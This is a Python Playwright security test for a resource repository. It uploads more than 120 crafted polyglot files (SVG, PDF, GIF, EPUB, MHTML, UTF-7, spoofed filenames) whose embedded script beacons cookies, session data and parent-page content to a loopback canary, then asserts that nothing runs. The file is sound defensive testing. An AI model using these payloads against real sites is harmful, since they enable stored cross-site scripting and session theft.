"""Files that want to be pages of ours, through every door that gives bytes out, in Chromium: nothing of them runs.

Each of them tries to tell a canary on loopback that it runs, what cookies it reads, who is signed in, and what stands
in the page around it. A session and a marker wait in the main origin.
"""

import gzip
import io
import json
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, urlsplit
from urllib.request import urlopen

import factories
import pytest
import serving
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, Error, Route, sync_playwright

from metadata.record import Text
from oer import deposits, installation, publishing, queries
from oer.db import transaction
from oer.installation import Installation
from oer.policy import OPERATOR
from oer.settings import Settings
from oer.workflow import Role

pytestmark = [pytest.mark.browser, pytest.mark.timeout(280)]

ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
ARGUMENTS += ["--disable-component-update", "--disable-sync"]
# An answer that a test makes up has no address; pages of none may not call loopback, where the canary is.
ARGUMENTS += ["--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests"]
SETTLE = 400  # milliseconds in which what runs has told the canary
AT_ONCE = 30  # frames of one page


# ── the canary ──────────────────────────────────────────────────────────────────────────────────


@dataclass
class Canary:
    """Hears whoever calls. It also has pages of its own: a strange site with frames, and an unsafe one."""

    port: int = 0
    heard: list[str] = field(default_factory=list)
    pages: dict[str, bytes] = field(default_factory=dict)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def calls(self) -> list[str]:
        return [path for path in self.heard if path.startswith("/hit/")]


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    found = Canary()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.heard.append(self.path)
            content = found.pages.get(self.path, b"")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8" if content else "image/gif")
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            with suppress(ConnectionError):  # the page was left
                self.wfile.write(content)

        def log_message(self, *_arguments: object) -> None:
            """Nothing is printed."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    found.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield found
    server.shutdown()
    server.server_close()
    thread.join()


# ── the files ───────────────────────────────────────────────────────────────────────────────────


def script(canary: Canary, name: str) -> str:
    """Told in this order: that it runs, the cookies, who is signed in, the page around."""
    return (
        f"(()=>{{const n=encodeURIComponent({name!r}),hit=(k,v)=>{{new Image().src='{canary.url}/hit/'+k+'?'+n+'&'+"
        "encodeURIComponent(String(v).slice(0,80))};globalThis.ran=n;hit('run',globalThis.location);"
        "try{hit('cookie',document.cookie)}catch(e){}"
        "try{fetch('/api/session').then(r=>r.text()).then(t=>hit('session',t))}catch(e){}"
        "try{hit('parent',parent.document.title)}catch(e){}})()"
    )


def files(canary: Canary) -> dict[str, tuple[bytes, str]]:
    """Name → bytes, and the type that a careless server would give them. 120 and some."""
    found: dict[str, tuple[bytes, str]] = {}
    made = 0

    def put(name: str, write: Callable[[str], bytes | str], media_type: str) -> None:
        nonlocal made
        made += 1
        content = write(script(canary, f"{made} {name}"))
        found[f"{made:03} {name}"] = (content.encode() if isinstance(content, str) else content, media_type)

    for shape in MARKUP:
        for name, media_type in PAGES:
            put(name, lambda js, shape=shape: shape.format(js=js, canary=canary.url), media_type)
    for name, write, media_type in OTHERS:
        put(name, write, media_type)
    return found


MARKUP = [
    "<!doctype html><title>x</title><script>{js}</script>",
    '<img src=x onerror="{js}"><svg onload="{js}">',
    '\n\n   <!-- {canary} --><body onload="{js}"><iframe src="javascript:{js}"></iframe>',
    "<meta http-equiv=refresh content='0;url=javascript:{js}'><base href='{canary}/hit/base/'><script>{js}</script>",
    "<link rel=stylesheet href='{canary}/hit/style'><object data='{canary}/hit/object'></object><script>{js}</script>",
]
PAGES = [
    ("page.html", "text/html"),
    ("page.htm", "text/html; charset=utf-7"),
    ("page.xhtml", "application/xhtml+xml"),
    ("page.txt", "text/plain"),
    ("page.pdf", "application/pdf"),
    ("page.jpg.html", "text/html"),
    ("page.html.jpg", "image/jpeg"),
    ("page.hta", "application/hta"),
    ("page.md", "text/markdown"),
    ("page.csv", "text/csv"),
    ("page", "application/octet-stream"),
    ("page.mp4", "video/mp4"),
    ("page.shtml", "text/html"),
    ("page.json", "application/json"),
    ("page.xml", "text/xml"),
    ("page.unknown", "application/x-unknown"),
]
XHTML = "http://www.w3.org/1999/xhtml"


def svg(js: str) -> str:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"><script>{js}</script>'
        f'<foreignObject><body xmlns="{XHTML}"><script>{js}</script></body></foreignObject></svg>'
    )


def styled(js: str) -> str:
    sheet = (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" id="s">'
        f'<xsl:template match="/"><html><script>{js}</script></html></xsl:template></xsl:stylesheet>'
    )
    return f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><root>{sheet}</root>'


def gif(js: str) -> bytes:
    return b"GIF89a/*" + bytes(20) + f"*/=1;{js}//<script>{js}</script>".encode()


def pdf(js: str) -> bytes:
    text = js.replace("(", "\\(").replace(")", "\\)")
    action = f"<< /S /JavaScript /JS (app.alert\\(1\\);this.submitForm\\('x'\\);{text}) >>"
    body = f"1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction {action} >> endobj\n"
    body += "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n"
    return f"%PDF-1.7\n{body}%%EOF\n".encode()


def atom(js: str) -> str:
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><h:script xmlns:h="{XHTML}">{js}</h:script></feed>'


def mathml(js: str) -> str:
    return f'<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:{js}">x</math>'


def page(js: str) -> str:
    return f"<!doctype html><script>{js}</script>"


def mhtml(js: str) -> str:
    return (
        "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n"
        f"Content-Location: http://x/\r\n\r\n{page(js)}\r\n--b--\r\n"
    )


def zipped(name: str) -> Callable[[str], bytes]:
    """An EPUB or an H5P by its beginning, with the page in plain sight."""
    return lambda js: b"PK\x03\x04" + bytes(26) + b"mimetypeapplication/" + name.encode() + page(js).encode()


def with_a_page(js: str) -> bytes:
    return pdf(js).replace(
        b"/Kids [] /Count 0 >> endobj\n",
        b"/Kids [3 0 R] /Count 1 >> endobj\n3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n",
    )


def picture(form: str) -> Callable[[str], bytes]:
    """One that can be drawn, with the page in a comment and behind its end."""

    def write(js: str) -> bytes:
        held = io.BytesIO()
        Image.new("RGB", (640, 480), "teal").save(held, form, comment=page(js).encode()[:60_000])
        return held.getvalue() + page(js).encode()

    return write


def archive(media_type: str | None) -> Callable[[str], bytes]:
    """A whole ZIP whose members have names that want to be read as markup; an EPUB with a cover that is a page."""

    def write(js: str) -> bytes:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w") as packed:
            if media_type:
                packed.writestr("mimetype", media_type)
                packed.writestr(
                    "META-INF/container.xml",
                    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
                    '<rootfile full-path="a.opf"/></rootfiles></container>',
                )
                packed.writestr(
                    "a.opf",
                    '<package xmlns="http://www.idpf.org/2007/opf"><manifest><item id="c" href="c.svg" '
                    'properties="cover-image" media-type="image/svg+xml"/></manifest></package>',
                )
                packed.writestr("c.svg", svg(js))
            packed.writestr(f"<img src=x onerror={js.encode().hex()[:40]}>.html", page(js))
            packed.writestr("<script>document.title='listed'</script>.txt", page(js))
            packed.writestr("صورة\u202egpj.html", page(js))
        return held.getvalue()

    return write


OTHERS: list[tuple[str, Callable[[str], bytes | str], str]] = [
    ("a.svg", svg, "image/svg+xml"),
    ("b.svg", lambda js: f'<?xml version="1.0"?>{svg(js)}', "image/svg+xml"),
    ("c.svgz", lambda js: gzip.compress(svg(js).encode()), "image/svg+xml"),
    ("d.svg.png", svg, "image/png"),
    ("e.xml", lambda js: f'<html xmlns="{XHTML}"><script>{js}</script></html>', "application/xml"),
    ("f.xml", styled, "text/xml"),
    ("g.xsl", styled, "text/xsl"),
    ("h.rdf", lambda js: f'<html xmlns="{XHTML}"><body onload="{js}"/></html>', "application/rdf+xml"),
    ("i.atom", atom, "application/atom+xml"),
    ("j.gif", gif, "image/gif"),
    ("k.gif.html", gif, "text/html"),
    ("l.js", lambda js: js, "text/javascript"),
    ("m.mjs", lambda js: js, "application/javascript"),
    ("n.gif.js", gif, "application/x-javascript"),
    ("o.pdf", pdf, "application/pdf"),
    ("p.pdf.html", lambda js: pdf(js) + page(js).encode(), "text/html"),
    ("q.html.pdf", lambda js: page(js).encode() + pdf(js), "application/pdf"),
    ("r.epub", zipped("epub+zip"), "application/epub+zip"),
    ("s.h5p", zipped("h5p"), "application/zip"),
    ("t.mht", mhtml, "multipart/related"),
    ("u.mhtml", mhtml, "message/rfc822"),
    ("v.eml", mhtml, "message/rfc822"),
    ("w.swf", lambda js: b"FWS\x06" + bytes(8) + page(js).encode(), "application/x-shockwave-flash"),
    ("x.utf7.html", lambda js: "+ADw-script+AD4-" + js + "+ADw-/script+AD4-", "text/html; charset=utf-7"),
    ("y.utf7.txt", lambda js: "+/v8-+ADw-script+AD4-" + js + "+ADw-/script+AD4-", "text/plain"),
    ("z.utf16.html", lambda js: page(js).encode("utf-16"), "text/html; charset=utf-16"),
    ("aa.utf16.txt", lambda js: page(js).encode("utf-16-le"), "text/plain"),
    ("ab.utf16be.txt", lambda js: b"\xfe\xff" + page(js).encode("utf-16-be"), "text/plain"),
    ("ac.2022.html", lambda js: b"\x1b$B" + page(js).encode() + b"\x1b(B", "text/html; charset=iso-2022-jp"),
    ("ad.bom.txt", lambda js: b"\xef\xbb\xbf" + page(js).encode(), "text/plain"),
    ("ae.png", lambda js: b"\x89PNG\r\n\x1a\n" + page(js).encode(), "image/png"),
    ("af.jpg", lambda js: b"\xff\xd8\xff\xe0" + page(js).encode(), "image/jpeg"),
    ("ag.webp", lambda js: b"RIFF\0\0\0\0WEBP" + page(js).encode(), "image/webp"),
    ("ah.bmp", lambda js: b"BM" + page(js).encode(), "image/bmp"),
    ("ai.mp3", lambda js: b"ID3" + page(js).encode(), "audio/mpeg"),
    ("aj.ogg", lambda js: b"OggS" + page(js).encode(), "audio/ogg"),
    ("ak.webm", lambda js: b"\x1aE\xdf\xa3" + page(js).encode(), "video/webm"),
    ("al.css", lambda js: f"@import url('javascript:{js}');", "text/css"),
    ("am.vtt", lambda js: f"WEBVTT\n\n00:00.000 --> 00:10.000\n{page(js)}", "text/vtt"),
    ("an.ics", page, "text/calendar"),
    ("ao.url", lambda js: f"[InternetShortcut]\nURL=javascript:{js}", "application/internet-shortcut"),
    ("ap.wasm", lambda js: b"\0asm\x01\0\0\0" + page(js).encode(), "application/wasm"),
    ("aq.appcache", lambda js: f"CACHE MANIFEST\n{page(js)}", "text/cache-manifest"),
    ("ar.wsdl", lambda js: f'<html xmlns="{XHTML}"><script>{js}</script></html>', "application/wsdl+xml"),
    ("as.mathml", mathml, "application/mathml+xml"),
    ("at.jsonp", lambda js: f"callback({js})", "application/json"),
    ("au.whole.pdf", with_a_page, "application/pdf"),
    ("av.whole.png", picture("PNG"), "image/png"),
    ("aw.whole.jpg", picture("JPEG"), "image/jpeg"),
    ("ax.whole.zip", archive(None), "application/zip"),
    ("ay.whole.epub", archive("application/epub+zip"), "application/epub+zip"),
    ("صورة\u202egpj.html", page, "text/html"),
    ("\u202efdp.exe.html", page, "text/html"),
    ("a%00.html", page, "text/html"),
    ("a;filename=b.html", page, "text/html"),
    ("a\"\r\nContent-Type: text%2Fhtml.txt", page, "text/plain"),
    ("<script>alert(1)<_script>.html", page, "text/html"),
]  # fmt: skip


# ── the places ──────────────────────────────────────────────────────────────────────────────────


@dataclass(frozen=True)
class Place:
    """A running repository. ``addresses`` of files, at every door that gives them out; ``pages`` that speak of them."""

    url: str
    cookies: list[dict[str, str]]
    addresses: list[str]
    pages: list[str]
    names: int
    apart: bool


@pytest.fixture(scope="module", params=["one origin", "two origins"])
def place(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, canary: Canary) -> Iterator[Place]:
    with running(tmp_path_factory.mktemp("hostile"), canary, apart=request.param == "two origins") as found:
        yield found


@contextmanager
def running(folder: Path, canary: Canary, *, apart: bool) -> Iterator[Place]:
    with serving.home(folder, OER_RATE_LIMIT="0") as served:
        other = f"http://localhost:{served.port}"
        if apart:
            served.environment["OER_CONTENT_ORIGIN"] = other
        wanted = {name[4:].lower(): value for name, value in served.environment.items() if name.startswith("OER_")}
        home = installation.open_installation(Settings(**wanted))  # type: ignore[arg-type]
        with closing(home):
            given = files(canary)
            names, public_id = published(home, given, script(canary, "title"))
            cookie = factories.session_of(home, factories.member(home, Role.REVIEWER))["Cookie"]
        paths = [f"/api/resources/{public_id}/files/{quote(name, safe='')}" for name in names]
        paths += [f"/api/resources/{public_id}/versions/1/files/{quote(name, safe='')}" for name in names[::4]]
        bases = [served.url, other] if apart else [served.url]
        pages = ["", "/embed", "/qr.svg", "/linkset"]
        spoken = [f"{served.url}/resources/{public_id}{rest}" for rest in pages]
        spoken += [f"{served.url}/api/resources/{public_id}{rest}" for rest in ("", "/pack.json", "/pack")]
        name, _, value = cookie.partition("=")
        cookies = [{"name": name, "value": value, "url": served.url}]
        cookies.append({"name": "marker", "value": "seen", "url": served.url})
        if not apart:
            served.oer("worker", "--once")  # pictures of pages, covers, listings: what is made of hostile files
        with serving.serving(served, "--no-worker"):
            if not apart:
                doors = [
                    f"{served.url}/api/resources/{public_id}/files/{quote(name, safe='')}/previews" for name in names
                ]
                spoken += doors
                paths += [urlsplit(one["url"])._replace(scheme="", netloc="").geturl() for one in made(doors)]
            yield Place(
                served.url, cookies, [base + path for base in bases for path in paths], spoken, len(names), apart
            )


def made(doors: list[str]) -> list[dict[str, str]]:
    """What was made of the files that these doors tell of."""
    found: list[dict[str, str]] = []
    for door in doors:
        with urlopen(door, timeout=30) as answer:
            found += json.load(answer)["items"]
    return found


def published(home: Installation, given: dict[str, tuple[bytes, str]], js: str) -> tuple[list[str], str]:
    """A resource with all of them, under the very types that they ask for."""
    hostile = [Text(value=f"<script>{js}</script>", lang="en")]
    described = factories.record().model_copy(update={"title": hostile, "description": hostile})
    public_id = factories.drafted(home, described=described, files={})
    kept = {name: home.store.put([content]) for name, (content, _) in given.items()}
    with transaction(home.engine) as session:
        for name, (_, media_type) in given.items():
            deposits.attach(
                session, OPERATOR, public_id, home.store, kept[name], name=name, media_type=media_type,
                limits=home.settings, now=home.now(),
            )  # fmt: skip
        version = publishing.publish(session, OPERATOR, public_id, repository_id=home.repository_id, now=home.now())
        session.flush()
        assert version.id is not None
        names = [file.name for file in queries.resources.files(session, version_id=version.id)]
    return names, public_id


# ── the browser ─────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        found = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=ARGUMENTS)
        yield found
        found.close()


@pytest.fixture
def context(browser: Browser, place: Place, canary: Canary) -> Iterator[BrowserContext]:
    """A browser that is signed in at the main origin."""
    canary.heard.clear()
    found = browser.new_context(accept_downloads=True)
    found.add_cookies(place.cookies)  # type: ignore[arg-type]
    yield found
    found.close()


def opened(context: BrowserContext, addresses: list[str]) -> int:
    """Go to each; how many were shown, and not handed over as files."""
    page, shown = context.new_page(), 0
    page.on("dialog", lambda dialog: dialog.dismiss())
    for address in addresses:
        with suppress(Error):  # a download, which is no page
            page.goto(address, wait_until="load", timeout=10_000)
            shown += 1
    page.wait_for_timeout(SETTLE)
    page.close()
    return shown


def test_there_are_enough_of_them(place: Place, canary: Canary) -> None:
    assert len(files(canary)) == place.names >= 120


def test_something_was_made_of_some_of_them(place: Place) -> None:
    """Listings and pictures, on one origin: what is asked below is not only the files themselves."""
    made_of_them = sum("/previews/" in one for one in place.addresses)
    assert made_of_them >= (0 if place.apart else 5)


def test_nothing_runs_where_it_is_opened(context: BrowserContext, place: Place, canary: Canary) -> None:
    shown = opened(context, [*place.addresses, *place.pages])
    print(f"{len(place.addresses)} addresses and {len(place.pages)} pages, {shown} shown, {len(canary.calls())} calls")
    assert shown > 20  # pictures, text and PDF are shown: it is not that everything failed
    assert canary.calls() == []


def test_nothing_runs_in_the_frames_of_a_strange_site(context: BrowserContext, place: Place, canary: Canary) -> None:
    page = context.new_page()
    for at in range(0, len(place.addresses), AT_ONCE):
        some = place.addresses[at : at + AT_ONCE]
        frames = [f'<iframe src="{one}"></iframe><object data="{one}"></object><img src="{one}">' for one in some]
        canary.pages[f"/frames/{at}"] = "".join(frames).encode()
        page.goto(f"{canary.url}/frames/{at}", wait_until="domcontentloaded")
        page.wait_for_timeout(SETTLE)
    page.wait_for_timeout(SETTLE)
    assert canary.calls() == []


LOAD = """address => new Promise(done => {
    const one = Object.assign(document.createElement("script"), { src: address });
    one.onload = one.onerror = () => done(globalThis.ran ?? null);
    document.head.append(one);
})"""


def test_nothing_is_a_script_of_a_page_of_ours(context: BrowserContext, place: Place) -> None:
    """Where somebody had smuggled an element into a page that may load scripts of its own origin."""
    page = context.new_page()
    page.goto(f"{place.url}/invitation")
    own = [one for one in place.addresses if one.startswith(place.url)]
    ran = [one for one in own if page.evaluate(LOAD, one) is not None]
    assert ran == []


# ── what must be found out ──────────────────────────────────────────────────────────────────────


def test_an_unsafe_answer_is_found_out(context: BrowserContext, place: Place, canary: Canary) -> None:
    """The same addresses of the same origin, without the headers: they tell of the session and of the marker."""

    def careless(route: Route) -> None:
        path = urlsplit(route.request.url).path
        if "/files/" not in path:
            route.continue_()
            return
        answer = route.fetch()
        route.fulfill(status=200, body=answer.body(), headers={"content-type": "text/html; charset=utf-8"})

    context.route(f"{place.url}/**", careless)
    opened(context, place.addresses[:5])
    calls = canary.calls()
    assert [one for one in calls if one.startswith("/hit/run")]
    assert [one for one in calls if one.startswith("/hit/cookie") and "marker%3Dseen" in one]
    assert [one for one in calls if one.startswith("/hit/session") and "reviewer" in one]


def test_a_script_of_the_type_of_scripts_is_found_out(context: BrowserContext, place: Place) -> None:
    page = context.new_page()
    page.goto(f"{place.url}/invitation")
    (own,) = [
        one for one in place.addresses if one.startswith(place.url) and one.endswith("l.js") and "versions" not in one
    ]

    def careless(route: Route) -> None:
        answer = route.fetch()
        route.fulfill(status=200, body=answer.body(), headers={"content-type": "text/javascript"})

    context.route(own, careless)
    assert page.evaluate(LOAD, own) is not None


def test_the_payload_is_one(canary: Canary) -> None:
    """A word on what is tried: each file holds its script once at least, in some encoding."""
    marks = [canary.url.encode(), canary.url.encode("utf-16-le"), canary.url.encode("utf-16-be")]
    for name, (content, _) in files(canary).items():
        plain = gzip.decompress(content) if content[:2] == b"\x1f\x8b" else content
        assert any(mark in plain for mark in marks), name
